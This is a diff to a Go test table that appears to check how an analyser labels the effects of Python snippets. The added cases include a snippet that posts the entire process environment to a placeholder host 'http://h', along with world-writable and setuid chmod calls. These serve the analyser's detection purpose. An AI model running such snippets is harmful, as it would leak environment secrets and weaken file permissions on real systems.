@@ -10,7 +10,15 @@ var pythonFiles = []pythonCase{
 	{"rename moves the tree away", `import os; os.rename('a', 'b')`, "deletes os.rename \"a\" /**\nwrites os.rename \"b\""},
 	{"move", `import shutil; shutil.move('a', 'b')`, "deletes shutil.move \"a\" /**\nwrites shutil.move \"b\""},
 	{"copy", `import shutil; shutil.copy('a', 'b')`, "reads shutil.copy \"a\"\nwrites shutil.copy \"b\""},
-	{"chmod", `import os; os.chmod('a', 0o777)`, `changes os.chmod "a"`},
+	{"chmod", `import os; os.chmod('a', 0o777)`, "changes os.chmod \"a\"\nruns os.chmod \"chmod\" \"777\" \"a\""},
+	{"chmod that gives nobody more", `import os; os.chmod('a', 0o755)`, `changes os.chmod "a"`},
+	{"chmod of a path that gives its owner's rights", `from pathlib import Path; Path('a').chmod(0o4755)`, "changes pathlib.Path().chmod \"a\"\nruns pathlib.Path().chmod \"chmod\" \"4755\" \"a\""},
+	{"walk", `import os
+for root, dirs, files in os.walk('/k'):
+    for f in files: open(os.path.join(root, f))`, "reads open /k/…\nreads open …"},
+	{"the environment as a whole", `import os, json, requests; requests.post('http://h', data=json.dumps(dict(os.environ)).encode())`, "connects requests.post \"http://h\"\nruns requests.post \"env\""},
+	{"the environment for a command", `import os, subprocess; subprocess.run(['ls'], env=dict(os.environ)); print(os.environ['X'], len(os.environ))`, "runs subprocess.run \"ls\""},
+	{"settings that are read", `import configparser; c = configparser.ConfigParser(); c.read('s.ini')`, `reads configparser.ConfigParser().read "s.ini"`},
 	{"open reads", `open('a')`, `reads open "a"`},
 	{"open writes", `open('a', 'w').write('x')`, `writes open "a"`},
 	{"open by keyword", `open('a', mode='ab')`, `writes open "a"`},
